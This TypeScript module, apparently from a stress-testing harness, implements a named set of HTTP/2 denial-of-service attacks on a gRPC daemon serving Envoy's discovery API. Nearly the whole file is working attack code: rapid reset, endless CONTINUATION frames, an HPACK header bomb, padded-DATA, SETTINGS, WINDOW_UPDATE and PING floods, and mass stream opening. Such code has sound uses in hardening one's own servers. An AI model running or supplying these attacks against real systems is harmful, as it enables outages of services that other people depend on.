/**
 * Attacks below gRPC: frames that cost the daemon more than the attacker.
 *
 * @module
 */
import {
  concat,
  dataFrame,
  type Field,
  FLAG,
  frame,
  grpcFields,
  headerBlock,
  headersFrame,
  INITIAL_WINDOW_SIZE,
  paddedFrame,
  repeated,
  resetFrame,
  settingsFrame,
  TYPE,
  uint32,
  windowFrame,
} from "./frames.ts";
import { again, greet, pour, type Scene } from "./wire.ts";

/** An attack: returns when its time is over. */
export type Attack = (scene: Scene) => Promise<void>;

/** The method that proxies call. */
export const PATH =
  "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";
/** A request as it should be. */
export const REQUEST: Uint8Array = headerBlock(grpcFields(PATH));
/** Largest payload of a frame that needs no consent. */
const MAX_FRAME = 16_384;
/** Decoded bytes of the largest header list that is taken; RFC 9113 section 6.5.2 counts 32 for each field. */
const MAX_LIST = 16 * 1024;

/** Ids of streams that a client opens, from one on. */
export function* streams(first: number = 1, count: number = Infinity): Generator<number> {
  for (let i = 0; i < count; i++) yield first + 2 * i;
}

function* endless(piece: Uint8Array): Generator<Uint8Array> {
  for (;;) yield piece;
}

/** Pieces made for one stream after the other. */
export function* each(
  make: (stream: number) => Uint8Array | Iterable<Uint8Array>,
  ids: Iterable<number> = streams(),
): Generator<Uint8Array> {
  for (const id of ids) {
    const made = make(id);
    if (made instanceof Uint8Array) yield made;
    else yield* made;
  }
}

/** DATA frames with one byte of content and one of padding, which is to be given back; nothing is read. */
const paddedData: Attack = (scene) =>
  again(scene, {}, (wire) =>
    pour(
      wire,
      each(function* (id) {
        yield headersFrame(id, REQUEST);
        // The head of a message of 4 MiB, which never comes whole.
        yield dataFrame(id, concat(Uint8Array.of(0), uint32(4 << 20)));
        const many = repeated(paddedFrame(id, Uint8Array.of(0), 1), 5000);
        for (let i = 0; i < 40; i++) yield many;
      }),
    ));

/** The same on streams that are over, or that were refused. */
const paddedDataRefused: Attack = (scene) =>
  again(scene, {}, (wire) =>
    pour(
      wire,
      each(function* (id) {
        yield headersFrame(id, headerBlock(grpcFields("/none")));
        const many = repeated(paddedFrame(id, Uint8Array.of(0), 1), 5000);
        for (let i = 0; i < 40; i++) yield many;
      }),
    ));

/** SETTINGS frames with as many entries as fit, while many streams are open. */
const settingsTimesStreams: Attack = (scene) =>
  again(scene, { read: true }, async (wire) => {
    await pour(wire, each((id) => headersFrame(id, REQUEST), streams(1, 20_000)));
    const entries = Array.from(
      { length: 2730 },
      (_, i) => [INITIAL_WINDOW_SIZE, 1000 + i] as const,
    );
    await pour(wire, endless(settingsFrame(entries)));
  });

/** Requests that are reset at once. */
const rapidReset: Attack = (scene) =>
  again(
    scene,
    { read: true },
    (wire) => pour(wire, each((id) => concat(headersFrame(id, REQUEST), resetFrame(id)))),
  );

/** Frames that are to be answered; nothing is read. */
function unread(piece: Uint8Array): Attack {
  return (scene) => again(scene, {}, (wire) => pour(wire, endless(repeated(piece, 100))));
}

/** An endless header block. */
const continuations: Attack = (scene) =>
  again(scene, { read: true }, async (wire) => {
    await wire.write(frame(TYPE.headers, 0, 1, REQUEST));
    await pour(wire, endless(frame(TYPE.continuation, 0, 1, new Uint8Array(MAX_FRAME))));
  });

/** Header blocks that go on for many frames of no or one byte. */
const smallContinuations: Attack = (scene) =>
  again(scene, { read: true }, (wire) =>
    pour(
      wire,
      each(function* (id) {
        yield frame(TYPE.headers, 0, id, REQUEST.subarray(0, 1));
        for (const byte of REQUEST.subarray(1)) {
          yield frame(TYPE.continuation, 0, id, Uint8Array.of(byte));
        }
        yield frame(TYPE.continuation, FLAG.endHeaders, id);
      }),
    ));

/** Requests whose streams stay open, each with a header block. */
function openStreams(block: Uint8Array): Attack {
  return (scene) =>
    again(scene, { read: true }, (wire) => pour(wire, each((id) => headersFrame(id, block))));
}

/** The largest list of header fields that is taken, in one field. */
const largeList = (): Uint8Array =>
  headerBlock(grpcFields(PATH, [["x", "y".repeat(MAX_LIST - 600)]]));

/** The maximum number of fields; their names and values are empty or nearly so. */
const manyFields = (): Uint8Array => {
  const count = Math.floor((MAX_LIST - 600) / 40);
  return headerBlock(
    grpcFields(PATH, Array.from({ length: count }, (_, i): Field => [`x${i % 10}`, ""])),
  );
};

/** The maximum number of indexed fields, one byte each: `accept-charset`, which is empty. */
const indexedFields = (): Uint8Array =>
  concat(REQUEST, repeated(Uint8Array.of(0x80 | 15), Math.floor((MAX_LIST - 600) / 46)));

/** A block that puts a large field into the table and then refers to it again and again. */
const headerBomb: Attack = (scene) =>
  again(scene, { read: true }, async (wire) => {
    const value = "y".repeat(4000);
    const literal = headerBlock([["x", value]]);
    literal[0] = 0x40;
    await wire.write(headersFrame(1, concat(REQUEST, literal)));
    const references = repeated(Uint8Array.of(0x80 | 62), MAX_FRAME - REQUEST.length);
    const block = concat(REQUEST, references);
    await pour(wire, each((id) => headersFrame(id, block), streams(3)));
  });

/** WINDOW_UPDATE frames for many streams. */
const windows: Attack = (scene) =>
  again(scene, { read: true }, async (wire) => {
    const ids = [...streams(1, 1000)];
    await pour(wire, each((id) => headersFrame(id, REQUEST), ids));
    const round = concat(...ids.map((id) => windowFrame(id, 1)), windowFrame(0, 1));
    await pour(wire, endless(round));
  });

/** Clients that reset their streams and send GOAWAY, one after the other. */
const departures: Attack = async (scene) => {
  const ids = [...streams(1, 30)];
  const ending = concat(
    ...ids.map((id) => headersFrame(id, REQUEST)),
    ...ids.map(resetFrame),
    frame(TYPE.goAway, 0, 0, new Uint8Array(8)),
  );
  await Promise.all(Array.from({ length: 20 }, async () => {
    while (!scene.over()) {
      const wire = await greet(scene, { read: true });
      scene.begun();
      await wire.write(ending);
      await new Promise((resolve) => setTimeout(resolve, 5));
      wire.close();
    }
  }));
};

/** Attacks by name. */
export const FRAME_ATTACKS: Readonly<Record<string, Attack>> = {
  paddedData,
  paddedDataRefused,
  settingsTimesStreams,
  rapidReset,
  continuations,
  smallContinuations,
  headerBomb,
  windows,
  departures,
  unreadPings: unread(frame(TYPE.ping, 0, 0, new Uint8Array(8))),
  unreadSettings: unread(settingsFrame([])),
  emptyBlocks: openStreams(new Uint8Array(0)),
  largeLists: openStreams(largeList()),
  manyFields: openStreams(manyFields()),
  indexedFields: openStreams(indexedFields()),
  openStreams: openStreams(REQUEST),
  unknownMethods: openStreams(headerBlock(grpcFields("/none"))),
  priorities: unread(frame(2, 0, 1, new Uint8Array(5))),
};
